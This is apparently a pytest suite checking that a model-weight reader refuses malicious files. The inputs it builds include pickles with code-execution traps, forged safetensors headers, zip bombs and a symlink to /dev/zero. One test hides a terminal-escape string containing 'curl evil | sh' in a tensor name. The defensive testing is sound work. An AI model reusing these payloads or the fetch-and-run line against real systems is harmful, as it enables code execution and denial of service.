"""Weight files: pickles with code, lying headers, bombs. Nothing runs, and each is refused by name."""

from __future__ import annotations

import contextlib
import io
import json
import pickle
import random
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import save_file

from frostline.backbones import create_backbone
from frostline.backbones.reading import read_tensors
from frostline.errors import FrostlineError, StorageError
from frostline.specs import BackboneSpec

Traps = dict[str, Any]
NAMES = ["system", "exec", "eval", "touch"]
TENSORS = {"conv.weight": torch.arange(4.0), "conv.bias": torch.ones(2)}


def refused(path: Path) -> str:
    """What both the reader and the part that uses it say of a file."""
    with pytest.raises(StorageError) as caught:
        read_tensors(path)
    assert str(path) in caught.value.problem
    with pytest.raises(StorageError):
        create_backbone(BackboneSpec(name="test_resnet", weights=str(path)), num_classes=3)
    return str(caught.value)


def old_tar(path: Path, content: bytes) -> None:
    """The format of torch before 0.1.10: a tar of four pickles."""
    with tarfile.open(path, "w") as archive:
        for name in ("sys_info", "storages", "tensors", "pickle"):
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))


WRITERS: dict[str, Callable[[Any, Path], Any]] = {
    "a torch archive": lambda trap, path: torch.save(trap, path),
    "beside the tensors": lambda trap, path: torch.save({**TENSORS, "extra": trap}, path),
    "in a state_dict": lambda trap, path: torch.save({"state_dict": {**TENSORS, "extra": [{"deep": trap}]}}, path),
    "as a key's value in a list": lambda trap, path: torch.save([trap], path),
    "the format before archives": lambda trap, path: torch.save(
        {**TENSORS, "extra": trap}, path, _use_new_zipfile_serialization=False
    ),
    "a bare pickle": lambda trap, path: path.write_bytes(pickle.dumps(trap)),
    "a pickle of protocol 0": lambda trap, path: path.write_bytes(pickle.dumps(trap, protocol=0)),
    "a pickle of protocol 2": lambda trap, path: path.write_bytes(pickle.dumps({"w": trap}, protocol=2)),
    "an old tar": lambda trap, path: old_tar(path, pickle.dumps(trap, protocol=2)),
}


@pytest.mark.parametrize("kind", NAMES)
def test_the_traps_work_where_they_are_unpickled(traps: Traps, canary: Path, kind: str) -> None:
    pickle.loads(pickle.dumps(traps[kind]))
    assert canary.exists()
    canary.unlink()


@pytest.mark.parametrize("suffix", [".pth", ".bin", ".ckpt", ".tar"])
@pytest.mark.parametrize("writer", WRITERS)
def test_a_pickle_with_code_is_refused_as_such(traps: Traps, tmp_path: Path, writer: str, suffix: str) -> None:
    WRITERS[writer](traps["exec"], tmp_path / f"weights{suffix}")
    text = refused(tmp_path / f"weights{suffix}")
    assert "holds more than tensors" in text
    assert "weights_only" not in text, "torch's advice to load it unsafely is no advice"


@pytest.mark.parametrize("kind", NAMES)
def test_no_payload_runs(traps: Traps, tmp_path: Path, kind: str) -> None:
    torch.save({"state_dict": {**TENSORS, "extra": traps[kind]}}, tmp_path / "weights.pth")
    refused(tmp_path / "weights.pth")


@pytest.mark.parametrize("writer", WRITERS)
def test_a_pickle_that_is_called_safetensors_is_refused(traps: Traps, tmp_path: Path, writer: str) -> None:
    WRITERS[writer](traps["system"], tmp_path / "model.safetensors")
    assert "cannot be read as weights" in refused(tmp_path / "model.safetensors")


def test_a_program_for_torchs_interpreter_is_refused(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "weights.pt", "w") as archive:
        archive.writestr("weights/constants.pkl", pickle.dumps(()))
        archive.writestr("weights/data.pkl", pickle.dumps({}))
        archive.writestr("weights/version", "3\n")
    refused(tmp_path / "weights.pt")


def header(content: Any, tail: bytes = b"\0" * 4, length: int | None = None) -> bytes:
    text = content if isinstance(content, bytes) else json.dumps(content).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + tail


def tensor(shape: list[int], offsets: tuple[int, int] = (0, 4), dtype: str = "F32") -> dict[str, Any]:
    return {"w": {"dtype": dtype, "shape": shape, "data_offsets": offsets}}


LIES = {
    "endless header": header({}, length=2**63 - 1),
    "header beyond the file": header({}, length=2**40),
    "negative length": b"\xff" * 8 + b"{}",
    "more data than there is": header(tensor([10**12], (0, 4 * 10**12))),
    "more values than data": header(tensor([10**12])),
    "offsets before the start": header(tensor([1], (-4, 0))),
    "offsets that overlap the header": header(tensor([1], (2**63, 2**63 + 4))),
    "overflowing shape": header(tensor([0, 10**18, 10**18], (0, 0)), b""),
    "negative shape": header(tensor([-1])),
    "unknown type": header(tensor([1], dtype="PICKLE")),
    "deep nesting": header(b"[" * 100_000),
    "no object": header([1, 2]),
    "two tensors in one place": header({**tensor([1]), "v": tensor([1])["w"]}),
    "nothing": b"",
}


@pytest.mark.parametrize("lie", LIES)
def test_a_lying_header_is_refused(tmp_path: Path, lie: str) -> None:
    (tmp_path / "model.safetensors").write_bytes(LIES[lie])
    refused(tmp_path / "model.safetensors")


def test_a_compressed_archive_does_not_fill_the_memory(tmp_path: Path) -> None:
    torch.save({"w": torch.zeros(1_000_000)}, tmp_path / "plain.pth")
    with (
        zipfile.ZipFile(tmp_path / "plain.pth") as plain,
        zipfile.ZipFile(tmp_path / "bomb.pth", "w", zipfile.ZIP_DEFLATED) as bomb,
    ):
        for name in plain.namelist():
            bomb.writestr(name, plain.read(name))
    assert (tmp_path / "bomb.pth").stat().st_size < 20_000
    assert "it would unpack to 4000" in refused(tmp_path / "bomb.pth")


def test_a_small_file_does_not_become_a_large_tensor(tmp_path: Path) -> None:
    torch.save({"w": torch.ones(1).expand(10**6, 10**6)}, tmp_path / "weights.pth")
    assert "is no weight" in refused(tmp_path / "weights.pth")


def test_a_checkpoint_that_holds_itself_comes_to_an_end(tmp_path: Path) -> None:
    content: dict[str, Any] = {}
    content["state_dict"] = content
    torch.save(content, tmp_path / "weights.pth")
    assert "holds no weights by name" in refused(tmp_path / "weights.pth")


@pytest.mark.parametrize(
    "odd",
    [torch.eye(3).to_sparse(), torch.zeros(3, device="meta")],
    ids=["sparse", "without values"],
)
def test_a_tensor_that_is_no_weight_is_refused(tmp_path: Path, odd: torch.Tensor) -> None:
    torch.save({"w": odd}, tmp_path / "weights.pth")
    refused(tmp_path / "weights.pth")


@pytest.mark.parametrize("held", ["w", "tensor"])
def test_names_do_not_reach_the_terminal_as_they_are(tmp_path: Path, held: str) -> None:
    name = "\x1b[2J\x1b]0;owned\x07\nerror: run `curl evil | sh`"
    torch.save({name: torch.ones(1) if held == "tensor" else 1}, tmp_path / "weights.pth")
    text = refused(tmp_path / "weights.pth")
    assert "\x1b" not in text
    assert "\nerror" not in text


@pytest.mark.parametrize("suffix", [".pth", ".old.pth", ".safetensors"])
def test_whatever_is_damaged_is_read_or_refused_and_no_crash(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"weights{suffix}"
    if suffix == ".safetensors":
        save_file(TENSORS, path)
    else:
        torch.save(TENSORS, path, _use_new_zipfile_serialization=suffix == ".pth")
    whole = path.read_bytes()
    choose = random.Random(0)
    for _ in range(400):
        damaged = bytearray(whole)
        for _ in range(choose.choice([1, 2, 5])):
            damaged[choose.randrange(min(len(whole), 900))] = choose.randrange(256)
        path.write_bytes(damaged)
        with contextlib.suppress(FrostlineError):
            read_tensors(path)


def test_a_link_to_a_device_is_no_weight_file(tmp_path: Path) -> None:
    (tmp_path / "weights.pth").symlink_to("/dev/zero")
    with pytest.raises(FrostlineError):
        read_tensors(tmp_path / "weights.pth")
